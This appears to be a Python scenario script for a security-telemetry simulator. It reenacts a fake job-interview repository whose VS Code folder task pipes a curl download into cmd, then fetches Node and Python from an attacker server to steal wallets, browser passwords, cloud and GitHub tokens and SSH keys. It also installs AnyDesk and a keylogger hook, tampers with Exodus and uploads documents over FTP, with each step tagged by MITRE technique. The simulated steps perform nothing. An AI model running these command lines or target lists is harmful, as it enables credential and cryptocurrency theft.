"""A repository for a job interview: opening its folder in the editor runs curl, which brings Node and later Python; they
take wallets, browsers' and developers' secrets, keys and a remote desktop. Resembles Contagious Interview (BeaverTail,
2025-2026)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2026-02-04T20:15:31", "user": "DEV-LAPTOP\\rafael", "home": "C:\\Users\\rafael",
           "computer": "DEV-LAPTOP", "os_version": (10, 0, 26100)}
REPOSITORY = r"D:\dev\takehome-chess"
PREVIEW, SERVER, FTP = ("198.51.100.90", 443), ("198.51.100.137", 1224), ("203.0.113.59", 21)
WALLETS = {"nkbihfbeogaeaoehlefnkodbefgpgknn": ("000003.log", "000012.ldb"),
           "bfnaelmomeimhlpmgjnjophhpkkoljpa": ("000005.ldb",)}
SECRETS = [r"\.aws\credentials", r"\.npmrc", r"\AppData\Roaming\GitHub CLI\hosts.yml", r"\.docker\config.json",
           r"\.kube\config", r"\.git-credentials", r"\AppData\Roaming\gcloud\application_default_credentials.json"]


def open_folder(c, desktop):
    program = c.home + r"\AppData\Local\Programs\Microsoft VS Code\Code.exe"
    code = c.spawn(desktop.explorer, program, '"%s" "%s"' % (program, REPOSITORY), description="Visual Studio Code",
                   **deeds.MICROSOFT)
    for name in (r"\package.json", r"\.vscode\settings.json", r"\.vscode\tasks.json", r"\.git\HEAD", r"\README.md"):
        c.read(code, REPOSITORY + name, 1200)
    desktop.murmur(2)
    c.host(PREVIEW[0], "chess-preview.vercel.app")
    line = 'cmd.exe /d /c "curl -sL https://chess-preview.vercel.app/api/settings/windows?flag=8 | cmd"'
    with deeds.told(c, "opening a folder runs a script that curl hands to the shell", "high",
                    ("T1105", "T1059.003", "T1204.002", "T1195.001", "T1176.002"), code, ("curl", "| cmd")) as helpers:
        shell = deeds.tool(c, code, line, directory=REPOSITORY + "\\")
        curl = deeds.tool(c, shell, "curl -sL https://chess-preview.vercel.app/api/settings/windows?flag=8")
        reader = deeds.tool(c, shell, "cmd")
        desktop.resolve()
        c.exchange(curl, PREVIEW, 50410, [517, 200], [1460, 1200])
        c.exit(curl)
        helpers += [shell, curl, reader]
    return code, shell, reader


def bring_node(c, desktop, code, shell, reader):
    home = c.home + r"\.vscode-hlp"
    c.folder(reader, home)
    with deeds.told(c, "brings the interpreter Node along, into a folder with a dot", "medium", ("T1105", "T1059.007"),
                    (code, shell, reader), (".vscode-hlp", "node")) as helpers:
        curl = deeds.tool(c, reader,
                          'curl -s -L -o "%s\\n.zip" https://nodejs.org/dist/v20.11.1/node-v20.11.1-win-x64.zip' % home)
        c.exchange(curl, ("198.51.100.41", 443), 50415, [517, 260], [14_600] * 8)
        c.drop(curl, home + r"\n.zip", 1_800_000, chunk=262_144)
        c.exit(curl)
        tar = deeds.tool(c, reader, 'tar -xf "%s\\n.zip" -C "%s"' % (home, home))
        c.read(tar, home + r"\n.zip", 1_800_000, chunk=262_144)
        c.drop(tar, home + r"\node.exe", 3_800_000, chunk=524_288)
        c.exit(tar)
        helpers += [curl, tar]
    curl = deeds.tool(c, reader, 'curl -s -o "%s\\env-setup.js" https://chess-preview.vercel.app/api/settings/env' % home)
    c.exchange(curl, PREVIEW, 50416, [517, 220], [1460] * 6)
    c.drop(curl, home + r"\env-setup.js", 8200)
    c.exit(curl)
    node = c.spawn(reader, home + r"\node.exe", '"%s\\node.exe" "%s\\env-setup.js"' % (home, home), directory=home + "\\",
                   company="Node.js", description="Node.js JavaScript Runtime", version="20.11.1")
    c.read(node, home + r"\env-setup.js", 8200)
    c.exit(reader)
    c.exit(shell)
    with c.behaviour("asks its server at an uncommon port", "medium", ("T1571", "T1071.001"), (code, node),
                     ("1224", SERVER[0])):
        for number in range(3):
            c.exchange(node, SERVER, 50420 + number, [190], [1460, 900])
            c.wait(5)
    return node


def take_secrets(c, node):
    local = c.home + r"\AppData\Local"
    chrome = local + r"\Google\Chrome\User Data"
    with c.behaviour("reads the wallets of browser extensions", "high", ("T1005", "T1555.003", "T1657", "T1539", "T1555"),
                     node, tuple(WALLETS) + ("Local Extension Settings",)):
        for identity, files in WALLETS.items():
            folder = "%s\\Default\\Local Extension Settings\\%s" % (chrome, identity)
            deeds.list_folder(c, node, folder)
            for name in files:
                c.read(node, folder + "\\" + name, 22_000)
    with c.behaviour("reads browsers' passwords and their key", "high", "T1555.003", node, ("Login Data", "Local State")):
        for browser in (chrome, local + r"\BraveSoftware\Brave-Browser\User Data"):
            c.read(node, browser + r"\Local State", 9000)
            c.read(node, browser + r"\Default\Login Data", 48_000)
    with c.behaviour("gathers developers' tokens of clouds, registries and GitHub", "high", ("T1552.001", "T1528"), node,
                     (".aws", ".npmrc", "hosts.yml", ".git-credentials", "application_default_credentials.json")):
        for name in SECRETS:
            c.read(node, c.home + name, 700)
        c.read(node, r"D:\dev\billing\.env", 600)
        c.read(node, r"D:\dev\site\.env.production", 600)
    with c.behaviour("reads the private SSH key", "high", "T1552.004", node, ("id_ed25519", ".ssh")):
        deeds.list_folder(c, node, c.home + r"\.ssh")
        c.read(node, c.home + r"\.ssh\id_ed25519", 411)
        c.read(node, c.home + r"\.ssh\known_hosts", 2100)
    with c.behaviour("sends what it took to its server", "high", ("T1041", "T1071.001"), node, (SERVER[0], "1224")):
        for number in range(4):
            c.exchange(node, SERVER, 50430 + number, [350, 30_000, 28_000, 31_500], [140])


def bring_python(c, node):
    with deeds.told(c, "brings Python along as a renamed archive", "high", ("T1105", "T1036.008", "T1059.006"), node,
                    ("p.zi", ".pyp")) as helpers:
        shell = deeds.tool(c, node, 'cmd.exe /d /s /c "curl -Lo "%s\\p.zi" "http://%s:1224/pdown""' % (c.home, SERVER[0]))
        curl = deeds.tool(c, shell, 'curl -Lo "%s\\p.zi" "http://%s:1224/pdown"' % (c.home, SERVER[0]))
        c.exchange(curl, SERVER, 50440, [160], [14_600] * 10)
        c.drop(curl, c.home + r"\p.zi", 1_500_000, chunk=262_144)
        c.exit(curl)
        c.exit(shell)
        c.rename(node, c.home + r"\p.zi", c.home + r"\p2.zip")
        shell = deeds.tool(c, node, 'cmd.exe /d /s /c "tar -xf %s\\p2.zip -C %s"' % (c.home, c.home))
        tar = deeds.tool(c, shell, "tar -xf %s\\p2.zip -C %s" % (c.home, c.home))
        c.read(tar, c.home + r"\p2.zip", 1_500_000, chunk=262_144)
        c.folder(tar, c.home + r"\.pyp")
        for name, size in ((r"\.pyp\python.exe", 104_000), (r"\.pyp\python311.dll", 2_900_000),
                           (r"\.pyp\Lib\site-packages\pyWinhook\_cpyHook.cp311-win_amd64.pyd", 45_000)):
            c.drop(tar, c.home + name, size, chunk=524_288)
        c.exit(tar)
        c.exit(shell)
        helpers += [shell, tar, curl]
    c.delete(node, c.home + r"\p2.zip")
    c.exchange(node, SERVER, 50441, [170], [14_600, 9000])
    c.drop(node, c.home + r"\.sysinfo", 23_000)
    with deeds.told(c, "Python of the profile runs a file without an ending", "medium", ("T1059.006", "T1564.001"), node,
                    (".sysinfo", ".pyp")) as helpers:
        python = c.spawn(node, c.home + r"\.pyp\python.exe", '"%s\\.pyp\\python.exe" "%s\\.sysinfo"' % (c.home, c.home),
                         company="Python Software Foundation", description="Python", version="3.11.5")
        c.load(python, c.home + r"\.pyp\python311.dll")
        c.read(python, c.home + r"\.sysinfo", 23_000)
        helpers.append(python)
    return python


def stay(c, desktop, node, python):
    hook = c.home + r"\.pyp\Lib\site-packages\pyWinhook\_cpyHook.cp311-win_amd64.pyd"
    with c.behaviour("hooks the keyboard by a library of Python", "medium", "T1056.001", (node, python),
                     ("cpyHook", "pyWinhook")):
        c.load(python, hook)
    settings = c.home + r"\AppData\Roaming\AnyDesk\service.conf"
    with deeds.told(c, "brings AnyDesk and gives it a password of its own", "high", ("T1219.002", "T1219"), (node, python),
                    ("AnyDesk", "anydesk", "service.conf")) as helpers:
        c.exchange(python, SERVER, 50450, [150], [14_600] * 8)
        c.drop(python, c.home + r"\anydesk.exe", 2_400_000, chunk=524_288)
        c.read(python, settings, 1100)
        c.drop(python, settings, 1500, opened=3)
        helpers.append(c.spawn(python, c.home + r"\anydesk.exe", c.home + r"\anydesk.exe", company="AnyDesk Software GmbH",
                               is_64bit=False))
    with c.behaviour("starts at log-on by a batch in the Startup folder", "high", "T1547.001", (node, python), "queue.bat"):
        c.drop(python, c.home + r"\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\queue.bat", 190)
    archive = c.home + r"\AppData\Local\exodus\app-25.13.2\resources\app.asar"
    with c.behaviour("replaces the code of the wallet program Exodus", "high", ("T1554", "T1574", "T1657"), (node, python),
                     "app.asar"):
        c.exchange(python, SERVER, 50451, [150], [14_600] * 6)
        c.rename(python, archive, archive + ".bak")
        c.drop(python, archive, 1_900_000, chunk=524_288)
    with c.behaviour("sends documents by FTP", "high", ("T1048.003", "T1048", "T1041"), (node, python), (FTP[0], ":21")):
        for number, name in enumerate(("wallet seed.txt", "curriculo.pdf", "IRPF 2025.pdf", "contrato.docx", "senhas.xlsx")):
            c.read(python, c.home + "\\Documents\\" + name, 60_000)
            c.exchange(python, FTP, 50460 + number, [16, 18, 30, 60_000], [120, 60, 60])
    desktop.murmur(5)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(8)
    code, shell, reader = open_folder(c, desktop)
    node = bring_node(c, desktop, code, shell, reader)
    desktop.murmur(3)
    take_secrets(c, node)
    python = bring_python(c, node)
    desktop.murmur(3)
    stay(c, desktop, node, python)
